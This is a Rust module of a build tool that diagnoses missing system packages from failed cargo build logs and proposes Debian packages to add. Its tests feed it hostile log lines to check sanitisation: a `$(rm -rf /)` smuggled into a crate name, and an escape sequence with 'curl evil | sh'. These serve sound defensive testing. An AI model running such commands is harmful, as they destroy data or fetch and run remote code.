//! What a build needs from its builder image beyond the compiler, and what to say when it
//! lacks it.
//!
//! Build scripts run programs (`make`, `cmake`, `perl`, `pkg-config`…) and look for system
//! libraries and headers. The builder image has gcc and libc only, unless the project names
//! more Debian packages in `hermetic.toml` (`[image] packages`). Two helpers: [`diagnose`]
//! reads a failed build's log and names the missing program, library or header, the crate
//! whose build script wanted it, the Debian package that provides it and the line to add;
//! [`proposals`] makes the same proposal before any build, from a map of well-known crates.

use serde::Serialize;

/// Something a build script wanted that the image does not have.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Missing {
    /// The crate whose build script failed (`name version`), when the log names it.
    pub krate: Option<String>,
    /// What is missing: a program, a pkg-config library, a header, or write access.
    pub kind: MissingKind,
    /// Its name (`make`, `openssl`, `zlib.h`) or, for a write, the path.
    pub what: String,
    /// The Debian package that provides it, where hermetic knows it.
    pub package: Option<String>,
    /// The log line it was read from.
    pub evidence: String,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum MissingKind {
    Program,
    Library,
    Header,
    /// The build script wrote into sources that are read-only (its own package, vendored).
    ReadOnlySource,
}

impl Missing {
    /// One sentence for the error message.
    pub fn sentence(&self) -> String {
        let who = match &self.krate {
            Some(k) => format!("the build script of {k}"),
            None => "a build script".to_string(),
        };
        match self.kind {
            MissingKind::Program => format!(
                "{who} ran `{}`, which the builder image does not have",
                self.what
            ),
            MissingKind::Library => format!(
                "{who} looked for the system library `{}` (pkg-config), which the builder \
                 image does not have",
                self.what
            ),
            MissingKind::Header => format!(
                "{who} compiles against `{}`, a header the builder image does not have",
                self.what
            ),
            MissingKind::ReadOnlySource => format!(
                "{who} tried to write into its own sources ({}), which are read-only",
                self.what
            ),
        }
    }

    /// What to do, with the exact configuration line where there is one.
    pub fn fix(&self, declared: &[String]) -> String {
        match (&self.kind, &self.package) {
            (MissingKind::ReadOnlySource, _) => "a dependency's sources are its verified \
                 vendored copy and stay read-only: a build script must write under OUT_DIR \
                 (report it to the crate, or patch it into the workspace with [patch])"
                .to_string(),
            (_, Some(package)) => {
                let mut packages: Vec<String> = declared.to_vec();
                if !packages.contains(package) {
                    packages.push(package.clone());
                }
                packages.sort();
                let list = packages
                    .iter()
                    .map(|p| format!("\"{p}\""))
                    .collect::<Vec<_>>()
                    .join(", ");
                format!(
                    "add the Debian package `{package}` to the builder image: in hermetic.toml\n\
                     [image]\npackages = [{list}]\nthen run `hermetic image bootstrap` (the \
                     image's definition, and so its digest, includes its packages)"
                )
            }
            (_, None) => format!(
                "find the Debian package that provides `{}` (`apt-file search {}`), and add it \
                 to hermetic.toml: [image] packages = [\"…\"]",
                self.what, self.what
            ),
        }
    }
}

/// Programs build scripts run, and the Debian package of each.
const PROGRAMS: &[(&str, &str)] = &[
    ("make", "make"),
    ("gmake", "make"),
    ("cmake", "cmake"),
    ("perl", "perl"),
    ("pkg-config", "pkg-config"),
    ("pkgconf", "pkgconf"),
    ("c++", "g++"),
    ("g++", "g++"),
    ("clang", "clang"),
    ("clang++", "clang"),
    ("autoconf", "autoconf"),
    ("autoreconf", "autoconf"),
    ("automake", "automake"),
    ("aclocal", "automake"),
    ("libtool", "libtool"),
    ("libtoolize", "libtool"),
    ("m4", "m4"),
    ("bison", "bison"),
    ("flex", "flex"),
    ("yacc", "bison"),
    ("gperf", "gperf"),
    ("nasm", "nasm"),
    ("yasm", "yasm"),
    ("protoc", "protobuf-compiler"),
    ("python3", "python3"),
    ("python", "python3"),
    ("git", "git"),
    ("ninja", "ninja-build"),
    ("meson", "meson"),
    ("patch", "patch"),
    ("xz", "xz-utils"),
    ("bzip2", "bzip2"),
    ("unzip", "unzip"),
    ("go", "golang-go"),
];

/// pkg-config library names and the Debian package with their `.pc` file.
const LIBRARIES: &[(&str, &str)] = &[
    ("openssl", "libssl-dev"),
    ("libssl", "libssl-dev"),
    ("libcrypto", "libssl-dev"),
    ("zlib", "zlib1g-dev"),
    ("sqlite3", "libsqlite3-dev"),
    ("libpq", "libpq-dev"),
    ("libcurl", "libcurl4-openssl-dev"),
    ("libgit2", "libgit2-dev"),
    ("libssh2", "libssh2-1-dev"),
    ("liblzma", "liblzma-dev"),
    ("libzstd", "libzstd-dev"),
    ("bzip2", "libbz2-dev"),
    ("dbus-1", "libdbus-1-dev"),
    ("alsa", "libasound2-dev"),
    ("libudev", "libudev-dev"),
    ("fontconfig", "libfontconfig-dev"),
    ("freetype2", "libfreetype-dev"),
    ("x11", "libx11-dev"),
    ("xcb", "libxcb1-dev"),
    ("xkbcommon", "libxkbcommon-dev"),
    ("wayland-client", "libwayland-dev"),
    ("gtk+-3.0", "libgtk-3-dev"),
    ("glib-2.0", "libglib2.0-dev"),
    ("libsodium", "libsodium-dev"),
    ("libseccomp", "libseccomp-dev"),
    ("libsystemd", "libsystemd-dev"),
    ("libusb-1.0", "libusb-1.0-0-dev"),
    ("libpcap", "libpcap-dev"),
    ("oniguruma", "libonig-dev"),
    ("libpcre2-8", "libpcre2-dev"),
    ("libxml-2.0", "libxml2-dev"),
    ("libarchive", "libarchive-dev"),
    ("libmagic", "libmagic-dev"),
    ("expat", "libexpat1-dev"),
    ("libffi", "libffi-dev"),
    ("protobuf", "libprotobuf-dev"),
];

/// Headers (as `#include` names them) and their Debian package.
const HEADERS: &[(&str, &str)] = &[
    ("openssl/", "libssl-dev"),
    ("zlib.h", "zlib1g-dev"),
    ("sqlite3.h", "libsqlite3-dev"),
    ("libpq-fe.h", "libpq-dev"),
    ("curl/", "libcurl4-openssl-dev"),
    ("lzma.h", "liblzma-dev"),
    ("zstd.h", "libzstd-dev"),
    ("bzlib.h", "libbz2-dev"),
    ("dbus/", "libdbus-1-dev"),
    ("alsa/", "libasound2-dev"),
    ("libudev.h", "libudev-dev"),
    ("X11/", "libx11-dev"),
    ("sodium.h", "libsodium-dev"),
    ("seccomp.h", "libseccomp-dev"),
    ("systemd/", "libsystemd-dev"),
    ("libusb-1.0/", "libusb-1.0-0-dev"),
    ("pcap.h", "libpcap-dev"),
    ("pcap/", "libpcap-dev"),
    ("ffi.h", "libffi-dev"),
    ("expat.h", "libexpat1-dev"),
    ("libxml/", "libxml2-dev"),
    ("magic.h", "libmagic-dev"),
    ("clang-c/", "libclang-dev"),
    ("linux/", "linux-libc-dev"),
    ("c++/", "g++"),
    ("iostream", "g++"),
    ("cstdint", "g++"),
];

/// Well-known crates whose build scripts need more than the C compiler, in their default
/// configuration: the packages to name before the first build.
const CRATES: &[(&str, &[&str])] = &[
    ("tikv-jemalloc-sys", &["make"]),
    ("jemalloc-sys", &["make"]),
    ("openssl-sys", &["pkg-config", "libssl-dev"]),
    ("openssl-src", &["perl", "make"]),
    ("cmake", &["cmake"]),
    ("bindgen", &["libclang-dev"]),
    ("clang-sys", &["libclang-dev"]),
    ("prost-build", &["protobuf-compiler"]),
    ("protobuf-src", &["cmake", "g++"]),
    ("pq-sys", &["libpq-dev"]),
    ("alsa-sys", &["pkg-config", "libasound2-dev"]),
    ("libudev-sys", &["pkg-config", "libudev-dev"]),
    ("libdbus-sys", &["pkg-config", "libdbus-1-dev"]),
    ("servo-fontconfig-sys", &["pkg-config", "libfontconfig-dev"]),
    (
        "yeslogic-fontconfig-sys",
        &["pkg-config", "libfontconfig-dev"],
    ),
    ("x11", &["pkg-config", "libx11-dev"]),
    ("rdkafka-sys", &["make", "g++"]),
    ("rocksdb", &["g++"]),
    ("librocksdb-sys", &["g++", "libclang-dev"]),
    ("cxx-build", &["g++"]),
    ("libseccomp-sys", &["libseccomp-dev"]),
    ("libsystemd-sys", &["pkg-config", "libsystemd-dev"]),
    ("libusb1-sys", &["pkg-config"]),
    ("pcap", &["libpcap-dev"]),
    ("libsodium-sys", &["pkg-config", "libsodium-dev"]),
    ("nasm-rs", &["nasm"]),
];

/// One proposal made before the build: `krate` needs `packages`, not yet declared.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Proposal {
    pub krate: String,
    pub packages: Vec<String>,
}

/// For each dependency (by crate name) that is known to need packages, those of them not
/// in `declared`.
pub fn proposals<'a>(
    crates: impl IntoIterator<Item = &'a str>,
    declared: &[String],
) -> Vec<Proposal> {
    let mut out: Vec<Proposal> = Vec::new();
    for name in crates {
        let Some((_, needs)) = CRATES.iter().find(|(c, _)| *c == name) else {
            continue;
        };
        let packages: Vec<String> = needs
            .iter()
            .filter(|p| !declared.iter().any(|d| d == *p))
            .map(|p| p.to_string())
            .collect();
        if !packages.is_empty() && !out.iter().any(|p| p.krate == name) {
            out.push(Proposal {
                krate: name.to_string(),
                packages,
            });
        }
    }
    out.sort_by(|a, b| a.krate.cmp(&b.krate));
    out
}

/// The proposals as notes, with the line to add.
pub fn proposal_lines(proposals: &[Proposal]) -> Vec<String> {
    let mut all: Vec<&str> = proposals
        .iter()
        .flat_map(|p| p.packages.iter().map(String::as_str))
        .collect();
    all.sort_unstable();
    all.dedup();
    let mut lines: Vec<String> = proposals
        .iter()
        .map(|p| {
            format!(
                "note: the build script of {} usually needs {}, which the builder image lacks",
                p.krate,
                p.packages
                    .iter()
                    .map(|x| format!("`{x}`"))
                    .collect::<Vec<_>>()
                    .join(", ")
            )
        })
        .collect();
    if !all.is_empty() {
        lines.push(format!(
            "note: add to hermetic.toml (beside Cargo.toml), then run `hermetic image \
             bootstrap`:\n[image]\npackages = [{}]",
            all.iter()
                .map(|p| format!("\"{p}\""))
                .collect::<Vec<_>>()
                .join(", ")
        ));
    }
    lines
}

fn package_of(table: &[(&str, &str)], name: &str) -> Option<String> {
    table
        .iter()
        .find(|(k, _)| *k == name)
        .map(|(_, p)| p.to_string())
}

fn header_package(header: &str) -> Option<String> {
    HEADERS
        .iter()
        .find(|(k, _)| {
            if k.ends_with('/') {
                header.starts_with(k)
            } else {
                header == *k
            }
        })
        .map(|(_, p)| p.to_string())
}

/// The text between the first pair of `open`/`close` after `at` in `line`.
fn between<'a>(line: &'a str, at: &str, open: char, close: char) -> Option<&'a str> {
    let rest = &line[line.find(at)? + at.len()..];
    let start = rest.find(open)? + open.len_utf8();
    let len = rest[start..].find(close)?;
    Some(&rest[start..start + len])
}

/// The program a command line (as `Command`'s Debug prints it: `"make" "-j2"`, or
/// `cd "dir" && "perl" "./Configure"`) runs: the first quoted word after any `cd … &&`
/// and `env` assignments, without its directory.
fn program_of(command: &str) -> Option<String> {
    let command = command.rsplit("&&").next().unwrap_or(command);
    let words: Vec<&str> = command.split_whitespace().collect();
    // Debug-printed commands quote the program and its arguments, not `env -u VAR`.
    let quoted = words
        .iter()
        .find(|w| w.len() > 2 && w.starts_with('"') && w.ends_with('"'));
    let word = match quoted {
        Some(w) => w.trim_matches('"'),
        None => words
            .iter()
            .find(|w| **w != "env" && !w.starts_with('-') && !w.contains('='))?,
    };
    Some(word.rsplit('/').next().unwrap_or(word).to_string()).filter(|w| !w.is_empty())
}

/// A crate name and version as cargo prints them (`name vVERSION`), read from the line
/// that names the failing build script. Kept only if it looks like one.
fn crate_of(line: &str) -> Option<String> {
    let inner = between(line, "failed to run custom build command for", '`', '`')?;
    let (name, version) = inner.split_once(" v")?;
    let plain = |s: &str, extra: &str| {
        !s.is_empty()
            && s.len() <= 128
            && s.chars()
                .all(|c| c.is_ascii_alphanumeric() || extra.contains(c))
    };
    let version = version.split_whitespace().next().unwrap_or_default();
    (plain(name, "-_") && plain(version, ".-+")).then(|| format!("{name} {version}"))
}

/// The first thing a failed build's log says is missing, with the crate whose build script
/// wanted it; `None` if the log shows no such cause (an ordinary compile error, say).
pub fn diagnose(log: &str) -> Option<Missing> {
    let mut krate: Option<String> = None;
    let mut last_running: Option<String> = None;
    let mut found: Option<Missing> = None;
    for line in log.lines() {
        // Logs are hostile and can be long: only the head of each line is read.
        let line = match line.char_indices().nth(4096) {
            Some((i, _)) => &line[..i],
            None => line,
        };
        let text = line.trim();
        if let Some(k) = crate_of(text) {
            // A crate's block starts here; what it reports belongs to it.
            krate = Some(k);
            if let Some(f) = &mut found
                && f.krate.is_none()
            {
                f.krate = krate.clone();
            }
            continue;
        }
        if found.is_some() {
            continue;
        }
        // What the log names goes into a message and a command line: only a plain name or
        // path, never terminal escapes or shell text.
        let make = |kind, what: String, package| Missing {
            krate: krate.clone(),
            kind,
            what: plain(&what),
            package,
            evidence: text.chars().filter(|c| !c.is_control()).take(512).collect(),
        };
        if let Some(rest) = text.strip_prefix("running: ") {
            last_running = program_of(rest);
        }
        if let Some(p) = between(text, "is ", '`', '`').filter(|_| text.ends_with("not installed?"))
        {
            found = Some(make(
                MissingKind::Program,
                p.to_string(),
                package_of(PROGRAMS, p),
            ));
        } else if let Some(p) = between(text, "failed to find tool", '"', '"') {
            found = Some(make(
                MissingKind::Program,
                p.to_string(),
                package_of(PROGRAMS, p),
            ));
        } else if text.contains("The pkg-config command could not be found")
            || text.contains("Could not run `pkg-config")
                && text.contains("No such file or directory")
        {
            found = Some(make(
                MissingKind::Program,
                "pkg-config".into(),
                Some("pkg-config".into()),
            ));
        } else if let Some(lib) =
            between(text, "The system library", '`', '`').filter(|_| text.contains("was not found"))
        {
            found = Some(make(
                MissingKind::Library,
                lib.to_string(),
                package_of(LIBRARIES, lib),
            ));
        } else if text.contains("Could not find directory of OpenSSL installation") {
            found = Some(make(
                MissingKind::Library,
                "openssl".into(),
                Some("libssl-dev".into()),
            ));
        } else if let Some(h) = text
            .split("fatal error: ")
            .nth(1)
            .and_then(|r| r.strip_suffix(": No such file or directory"))
        {
            let h = h.trim().trim_matches(['\'', '"', '`']);
            found = Some(make(MissingKind::Header, h.to_string(), header_package(h)));
        } else if text.contains("Unable to find libclang") {
            found = Some(make(
                MissingKind::Library,
                "libclang".into(),
                Some("libclang-dev".into()),
            ));
        } else if let Some(p) = shell_not_found(text) {
            found = Some(make(
                MissingKind::Program,
                p.clone(),
                package_of(PROGRAMS, &p),
            ));
        } else if (text.contains("failed to execute command: No such file or directory")
            || text.contains("Failed to execute: No such file or directory"))
            && let Some(p) = last_running.clone()
        {
            found = Some(make(
                MissingKind::Program,
                p.clone(),
                package_of(PROGRAMS, &p),
            ));
        } else if let Some(cmd) = text.strip_prefix("Command: ") {
            last_running = program_of(cmd);
        } else if text.contains("Read-only file system") {
            let path = between(text, "", '"', '"')
                .or_else(|| between(text, "", '`', '`'))
                .unwrap_or("a path in its package")
                .to_string();
            found = Some(make(MissingKind::ReadOnlySource, path, None));
        }
    }
    found
}

/// `s` if it is a plain name or path (letters, digits, `._+/-`, at most 128 characters),
/// else a placeholder.
fn plain(s: &str) -> String {
    let ok = !s.is_empty()
        && s.len() <= 128
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || "._+/-".contains(c));
    if ok {
        s.to_string()
    } else {
        "(a name the log spells oddly)".to_string()
    }
}

/// `sh: 1: make: not found`, `/bin/sh: make: not found`, `bash: make: command not found`.
fn shell_not_found(text: &str) -> Option<String> {
    let rest = text
        .strip_suffix(": not found")
        .or_else(|| text.strip_suffix(": command not found"))?;
    let program = rest.rsplit(": ").next()?.trim();
    let ok = !program.is_empty()
        && program.len() <= 64
        && program
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_.+".contains(c));
    ok.then(|| program.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn proposals_become_one_note_each_and_the_lines_to_add() {
        let lines = proposal_lines(&proposals(["openssl-sys", "tikv-jemalloc-sys"], &[]));
        assert_eq!(lines.len(), 3, "{lines:?}");
        assert!(lines[0].contains("openssl-sys") && lines[0].contains("`libssl-dev`"));
        assert!(
            lines[2].ends_with("[image]\npackages = [\"libssl-dev\", \"make\", \"pkg-config\"]"),
            "{lines:?}"
        );
        assert!(proposal_lines(&[]).is_empty());
    }

    const JEMALLOC: &str = r#"   Compiling tikv-jemalloc-sys v0.6.1+5.3.0-1-ge13ca993e8ccb9ba9847cc330696e02839f328f7
error: failed to run custom build command for `tikv-jemalloc-sys v0.6.1+5.3.0-1-ge13ca993e8ccb9ba9847cc330696e02839f328f7`

Caused by:
  process didn't exit successfully: `/work/target/release/build/tikv-jemalloc-sys-1/build-script-build` (exit status: 101)
  --- stdout
  running: cd "/work/target/release/build/tikv-jemalloc-sys-2/out/build" && "sh" "/work/target/release/build/tikv-jemalloc-sys-2/out/build/configure" "--disable-cxx"
  running: cd "/work/target/release/build/tikv-jemalloc-sys-2/out/build" && "make" "-j" "2"
  --- stderr
  thread 'main' panicked at build.rs:380:19:
  failed to execute command: No such file or directory (os error 2)
"#;

    #[test]
    fn a_program_run_by_a_build_script_is_named_with_its_crate_and_package() {
        let m = diagnose(JEMALLOC).expect("found");
        assert_eq!(m.kind, MissingKind::Program);
        assert_eq!(m.what, "make");
        assert_eq!(m.package.as_deref(), Some("make"));
        assert_eq!(
            m.krate.as_deref(),
            Some("tikv-jemalloc-sys 0.6.1+5.3.0-1-ge13ca993e8ccb9ba9847cc330696e02839f328f7")
        );
        assert!(m.sentence().contains("ran `make`"), "{}", m.sentence());
        let fix = m.fix(&["cmake".into()]);
        assert!(
            fix.contains("[image]\npackages = [\"cmake\", \"make\"]"),
            "{fix}"
        );
    }

    #[test]
    fn each_kind_of_missing_thing_is_read() {
        let block = |body: &str| {
            format!(
                "error: failed to run custom build command for `some-sys v1.2.3`\n\nCaused by:\n{body}\n"
            )
        };
        let cases = [
            (
                "  failed to execute command: No such file or directory (os error 2)\n  is `cmake` not installed?",
                MissingKind::Program,
                "cmake",
                Some("cmake"),
            ),
            (
                "  error occurred in cc-rs: failed to find tool \"c++\": No such file or directory (os error 2)",
                MissingKind::Program,
                "c++",
                Some("g++"),
            ),
            (
                "  Could not run `PKG_CONFIG_ALLOW_SYSTEM_CFLAGS=1 pkg-config --libs --cflags openssl`\n  The pkg-config command could not be found.",
                MissingKind::Program,
                "pkg-config",
                Some("pkg-config"),
            ),
            (
                "  The system library `dbus-1` required by crate `libdbus-sys` was not found.",
                MissingKind::Library,
                "dbus-1",
                Some("libdbus-1-dev"),
            ),
            (
                "  src/shim.c:1:10: fatal error: openssl/ssl.h: No such file or directory",
                MissingKind::Header,
                "openssl/ssl.h",
                Some("libssl-dev"),
            ),
            (
                "  sh: 1: autoreconf: not found",
                MissingKind::Program,
                "autoreconf",
                Some("autoconf"),
            ),
            (
                "  Command: cd \"/w/out/openssl-build/build/src\" && env -u CROSS_COMPILE \"perl\" \"./Configure\"\n  Failed to execute: No such file or directory (os error 2)",
                MissingKind::Program,
                "perl",
                Some("perl"),
            ),
            (
                "  Unable to find libclang: \"couldn't find any valid shared libraries\"",
                MissingKind::Library,
                "libclang",
                Some("libclang-dev"),
            ),
            (
                "  sh: 1: frobnicate: not found",
                MissingKind::Program,
                "frobnicate",
                None,
            ),
        ];
        for (body, kind, what, package) in cases {
            let m = diagnose(&block(body)).unwrap_or_else(|| panic!("nothing found in {body}"));
            assert_eq!((m.kind, m.what.as_str()), (kind, what), "{body}");
            assert_eq!(m.package.as_deref(), package, "{body}");
            assert_eq!(m.krate.as_deref(), Some("some-sys 1.2.3"));
        }
        // Without a package, the fix says how to find one.
        let m = diagnose(&block("  sh: 1: frobnicate: not found")).expect("found");
        assert!(m.fix(&[]).contains("apt-file search frobnicate"));
    }

    #[test]
    fn a_write_into_read_only_sources_is_named() {
        let log = "error: failed to run custom build command for `gen v0.1.0`\n\
                   thread 'main' panicked at build.rs:4:5:\n\
                   cannot write \"/work/vendor/gen-0.1.0/completions/gen.bash\": Read-only file system (os error 30)\n";
        let m = diagnose(log).expect("found");
        assert_eq!(m.kind, MissingKind::ReadOnlySource);
        assert_eq!(m.what, "/work/vendor/gen-0.1.0/completions/gen.bash");
        assert!(m.fix(&[]).contains("OUT_DIR"));
    }

    #[test]
    fn an_ordinary_compile_error_is_not_blamed_on_the_image() {
        let log = "error[E0425]: cannot find value `x` in this scope\n --> src/main.rs:1:13\n\
                   error: could not compile `hello` (bin \"hello\") due to 1 previous error\n";
        assert_eq!(diagnose(log), None);
        // A hostile log cannot make the crate name anything but a name.
        let log = "error: failed to run custom build command for `$(rm -rf /) v1`\nis `make` not installed?\n";
        assert_eq!(diagnose(log).and_then(|m| m.krate), None);
        // Nor what is missing: no escape sequence or shell text reaches the message.
        let log =
            "fatal error: \x1b]52;c;ZXZpbA==\x07x.h; curl evil | sh: No such file or directory\n";
        let m = diagnose(log).expect("found");
        assert!(
            !m.sentence().contains('\x1b') && !m.fix(&[]).contains("curl"),
            "{m:?}"
        );
    }

    #[test]
    fn well_known_crates_are_proposed_before_the_build() {
        let declared = vec!["pkg-config".to_string()];
        let p = proposals(
            ["itoa", "openssl-sys", "tikv-jemalloc-sys", "openssl-sys"],
            &declared,
        );
        assert_eq!(
            p,
            vec![
                Proposal {
                    krate: "openssl-sys".into(),
                    packages: vec!["libssl-dev".into()]
                },
                Proposal {
                    krate: "tikv-jemalloc-sys".into(),
                    packages: vec!["make".into()]
                },
            ]
        );
        assert!(proposals(["tikv-jemalloc-sys"], &["make".to_string()]).is_empty());
    }
}
